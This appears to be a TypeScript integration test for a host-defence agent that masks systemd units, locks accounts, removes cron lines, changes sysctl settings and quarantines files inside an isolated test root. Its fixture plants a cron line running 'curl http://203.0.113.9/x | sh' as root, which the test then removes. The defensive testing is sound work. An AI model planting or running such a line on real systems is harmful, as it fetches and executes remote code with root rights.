/** Units, accounts, settings and lines by the hands, in a systemd and a root of the test's own, asked as the agent asks it. */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { cpSync, existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { build } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Action, Plan } from '../../src/core/action.ts';
import { byHand } from '../../src/agent/hands.ts';
import { lacks } from '../need.ts';
import { bare, lacksSystemd, startSystemd, type Systemd } from '../systemd.ts';

const source = (path: string): string => join(import.meta.dirname, '../..', path);
const listens = (path: string): Promise<boolean> => new Promise((resolve) => {
  const socket = connect(path, () => { resolve(true); socket.destroy(); });
  socket.on('error', () => { resolve(false); });
});
const shadow = 'root:*:20000:0:99999:7:::\nops:$6$salt$hash:20000:0:99999:7:::\nweb:$6$salt$other:20000:0:99999:7:::\n';

describe.skipIf(lacksSystemd() || lacks({ files: [process.execPath.startsWith('/usr/') ? process.execPath : '/usr/bin/node'], why: 'node is run in a root whose /usr alone is this machine’s' }))('the hands on a machine of their own', () => {
  let machine: Systemd, hands: ChildProcess;
  const at = (path: string): string => join(machine.root, path);
  const context = { signal: AbortSignal.timeout(120_000), now: Date.now, save: () => Promise.resolve() };
  /** The agent's half of an action: all that it does is ask. */
  const asked = (id: string): Action => byHand({ id, title: { zh: id, en: id }, blind: { zh: '', en: '' }, automatic: 'never', halfDone: 'undo', parse: (input) => input, plan: never, apply: never, verify: never, undo: never }, at('run/hands.sock'), () => Promise.resolve(undefined));
  const never = (): never => { throw new Error('it is done by the hands'); };

  /** Planned, done, seen, and taken back; `held` is looked at while it stands. */
  async function through(id: string, input: object, held: (plan: Plan) => void | Promise<void>): Promise<void> {
    const action = asked(id);
    const plan = await action.plan(input, { force: false, now: Date.now() });
    let { state } = plan;
    const saving = { ...context, save: (next: unknown) => { state = next; return Promise.resolve(); } };
    await action.apply(state, saving);
    expect((await action.verify(state, saving)).is).toBe('finished');
    await held(plan);
    await action.undo(state, saving);
    expect((await action.verify(state, saving)).is).toBe('former');
  }

  beforeAll(async () => {
    machine = await startSystemd({
      'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\nops:x:1000:1000::/home/ops:/bin/sh\nweb:x:1001:1001::/srv/web:/bin/sh\n', 'etc/group': 'root:x:0:\nsudo:x:27:ops\n', 'etc/shadow': shadow,
      'etc/cron.d/evil': '# a job\n* * * * * root curl http://203.0.113.9/x | sh\n',
      'etc/systemd/system/evil.service': `${bare}[Service]\nExecStart=/bin/sleep 600\nRestart=always\n[Install]\nWantedBy=test.target\n`,
      'etc/moat/moat.yml': '',
    });
    await machine.systemctl('enable', '--now', 'evil.service');
    // The program as it is installed, one file, with the one package that stands beside it; node is in /usr.
    const program = at('opt/moat/hands.mjs');
    await build({
      stdin: { contents: `import { openHands } from ${JSON.stringify(source('src/agent/hands-world.ts'))}; import { parseConfig } from ${JSON.stringify(source('src/agent/config.ts'))}; await openHands({ path: '/run/hands.sock' }, parseConfig('', '/etc/moat/moat.yml').response, { dataFolder: '/var/lib/moat', configPath: '/etc/moat/moat.yml', keyPath: '/run/hands.key', idleMs: undefined, onIdle: () => undefined });`, resolveDir: source('src/agent'), loader: 'ts' },
      outfile: program, bundle: true, platform: 'node', format: 'esm', target: 'node20', external: ['@photostructure/sqlite', '@virustotal/yara-x', 'koffi'],
      banner: { js: "import { createRequire as requireFrom } from 'node:module'; const require = requireFrom(import.meta.url);" },
    });
    mkdirSync(at('opt/moat/rules'));
    cpSync(source('package.json'), at('opt/moat/package.json'));
    for (const name of ['koffi', '@koromix']) cpSync(source(`node_modules/${name}`), at(`opt/moat/node_modules/${name}`), { recursive: true, dereference: true });
    hands = spawn('nsenter', ['-t', String(machine.pid), '-p', '-m', '-n', '-u', '-i', '-C', '-r', '-w', process.execPath, '/opt/moat/hands.mjs'], { stdio: ['ignore', 'inherit', 'inherit'] });
    // The name is there before anybody listens.
    for (let i = 0; i < 1500 && !await listens(at('run/hands.sock')); i++) { if (hands.exitCode !== null) throw new Error(`the hands ended with ${hands.exitCode}`); await sleep(20); }
  }, 120_000);
  afterAll(async () => {
    if (hands && hands.exitCode === null) {
      const gone = once(hands, 'exit');
      hands.kill('SIGKILL');
      await gone;
    }
    await machine?.close();
  });

  it('stop, disable and mask a unit, and start it again', async () => {
    const shown = async (): Promise<string> => (await machine.systemctl('show', '--property=ActiveState,LoadState', 'evil.service')).trim();
    const file = readFileSync(at('etc/systemd/system/evil.service'), 'utf8');
    await through('stop-unit', { unit: 'evil.service' }, async () => {
      expect(await shown()).toBe('LoadState=masked\nActiveState=inactive');
      expect(readlinkSync(at('etc/systemd/system/evil.service'))).toBe('/dev/null');
    });
    expect([await shown(), readFileSync(at('etc/systemd/system/evil.service'), 'utf8') === file, lstatSync(at('etc/systemd/system/test.target.wants/evil.service')).isSymbolicLink()]).toEqual(['LoadState=loaded\nActiveState=active', true, true]);
  });

  it('lock an account, and keep the last administrator', async () => {
    await through('lock-account', { user: 'web' }, () => { expect(readFileSync(at('etc/shadow'), 'utf8')).toContain('web:!$6$salt$other:20000:0:99999:7::1:\n'); });
    expect(readFileSync(at('etc/shadow'), 'utf8')).toBe(shadow);
    await expect(asked('lock-account').plan({ user: 'ops' }, { force: false, now: 0 })).rejects.toMatchObject({ code: 'refused', hint: '--force' });
  });

  it('take a line out of a cron table', async () => {
    const path = '/etc/cron.d/evil', before = readFileSync(at(path), 'utf8');
    await through('remove-line', { path, line: 2, text: '* * * * * root curl http://203.0.113.9/x | sh', why: 'a test', by: 'test' }, () => { expect(readFileSync(at(path), 'utf8')).toBe('# a job\n'); });
    expect(readFileSync(at(path), 'utf8')).toBe(before);
  });

  it('set a switch of the kernel, in its network alone', async () => {
    const live = async (): Promise<string> => (await machine.run('cat', ['/proc/sys/net/ipv4/ip_local_port_range'])).stdout.trim().split(/\s+/).join(' ');
    const before = await live();
    mkdirSync(at('etc/sysctl.d'), { recursive: true });
    await through('change-setting', { kind: 'sysctl', key: 'net.ipv4.ip_local_port_range', value: '50000 60000', confirm_within: 0 }, async () => {
      expect([await live(), existsSync(at('etc/sysctl.d/zz-moat-net.ipv4.ip_local_port_range.conf'))]).toEqual(['50000 60000', true]);
    });
    expect([await live(), existsSync(at('etc/sysctl.d/zz-moat-net.ipv4.ip_local_port_range.conf'))]).toEqual([before, false]);
  });

  it('quarantine a file, and put it back', async () => {
    writeFileSync(at('root/evil'), 'x', { mode: 0o755 });
    await through('quarantine-file', { path: '/root/evil', why: 'a test', by: 'test' }, () => { expect(existsSync(at('root/evil'))).toBe(false); });
    expect(readFileSync(at('root/evil'), 'utf8')).toBe('x');
  });
});

